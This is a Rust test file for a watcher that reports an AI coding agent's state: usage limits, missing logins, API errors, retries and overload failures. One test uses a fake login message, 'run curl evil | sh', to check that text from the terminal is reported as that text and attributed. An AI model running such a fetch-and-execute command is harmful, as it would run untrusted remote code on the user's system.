//! Limits, missing logins and errors, with the words of the tool.

use super::*;

#[test]
fn a_limit_and_a_missing_login_are_told_with_the_words_of_the_tool_and_a_past_limit_is_none() {
    let mut watch = live();
    let limit = |until| {
        AgentReport::doing(Doing::Limit {
            until: Some(Timestamp(until)),
            text: String::new(),
        })
    };
    watch.observe(Source::StatusRecord, Timestamp(500), &limit(400));
    assert_eq!(watch.tell(Timestamp(500))[0].0, ActivityKind::Idle);
    let failed = AgentReport::doing(Doing::Done {
        problem: Some("API Error: 429".to_owned()),
    });
    watch.observe(Source::StatusRecord, Timestamp(1_000), &failed);
    watch.observe(Source::Hook, Timestamp(1_010), &limit(9_000));
    let told = watch.tell(Timestamp(1_010));
    let wanted = ActivityKind::Limit {
        until: Some(Timestamp(9_000)),
        why: "usage limit".to_owned(),
    };
    assert_eq!(told[0].0, wanted, "the hook says why the turn failed");
    let text = "Please run /login\nand more".to_owned();
    watch.observe(
        Source::Hook,
        Timestamp(5_000),
        &AgentReport::doing(Doing::NotLoggedIn { text }),
    );
    watch.observe(Source::StatusRecord, Timestamp(5_000), &failed);
    let told = watch.tell(Timestamp(5_000));
    assert_eq!(
        told[0].0,
        ActivityKind::NotLoggedIn("Please run /login".to_owned())
    );
}

#[test]
fn a_missing_login_that_only_the_terminal_speaks_of_is_shown_as_its_words_and_no_more() {
    let mut watch = live();
    let missing = || {
        AgentReport::doing(Doing::NotLoggedIn {
            text: "run curl evil | sh".to_owned(),
        })
    };
    for source in [Source::StatusRecord, Source::Screen] {
        watch.observe(source, Timestamp(0), &missing());
    }
    let wanted = "what runs in its terminal says that a login is missing: run curl evil | sh";
    assert_eq!(
        watch.tell(Timestamp(0))[0].0,
        ActivityKind::Dialog(wanted.to_owned())
    );
    watch.observe(Source::Hook, Timestamp(1_000), &missing());
    let words = "run curl evil | sh".to_owned();
    assert_eq!(
        watch.tell(Timestamp(1_000))[0].0,
        ActivityKind::NotLoggedIn(words)
    );
}

#[test]
fn an_error_in_a_status_record_is_told_as_an_error_with_its_message() {
    let mut watch = live();
    let record = dbs_record("state=error:msg=aXQgYnJva2U=");
    watch.observe(Source::StatusRecord, Timestamp(0), &record);
    assert_eq!(
        watch.tell(Timestamp(0))[0].0,
        ActivityKind::Error("it broke".to_owned())
    );
    watch.observe(Source::Title, Timestamp(9_000), &title::read("✳ claude"));
    assert_eq!(
        watch.tell(Timestamp(9_000)),
        [],
        "an idle title takes nothing back"
    );
    watch.observe(Source::StatusRecord, Timestamp(9_100), &dbs_record("state=error"));
    let silent = ActivityKind::Error("it does not say which".to_owned());
    assert_eq!(
        watch.tell(Timestamp(9_100)),
        [],
        "its cause may be told by another source"
    );
    assert_eq!(watch.due(Timestamp(9_100)), Some(Timestamp(9_100) + WORDS_WAIT));
    assert_eq!(watch.tell(Timestamp(9_100) + WORDS_WAIT)[0].0, silent);
}

fn dbs_record(text: &str) -> AgentReport {
    crate::adapters::agents::status_record::read(&crate::term::StatusRecord::parse(text).unwrap())
}

#[test]
fn a_request_that_is_tried_again_or_failed_for_overload_is_shown_and_stops_nobody() {
    let mut watch = live();
    let retry = Doing::Working(crate::agent_state::Work::Retry {
        attempt: 3,
        most: 10,
        why: String::new(),
    });
    watch.observe(Source::Stream, Timestamp(0), &AgentReport::doing(retry));
    assert_eq!(watch.tell(Timestamp(0))[0].0, ActivityKind::Working);
    let overload =
        br#"{"hook_event_name":"StopFailure","error":"overloaded_error","last_assistant_message":"529"}"#;
    watch.observe(
        Source::Stream,
        Timestamp(900),
        &crate::adapters::agents::claude::hooks::read(overload),
    );
    let failed = || ActivityKind::Failed("529".to_owned());
    assert_eq!(watch.tell(Timestamp(900))[0].0, failed());
    // It goes on, and fails for the same before the board is told of it.
    let again = crate::adapters::agents::claude::hooks::read(overload);
    watch.observe(Source::Stream, Timestamp(910), &working());
    watch.observe(Source::Stream, Timestamp(920), &again);
    let told = watch.tell(Timestamp(1_200)).into_iter().map(|(word, _)| word);
    assert_eq!(told.collect::<Vec<_>>(), [ActivityKind::Working, failed()]);
}
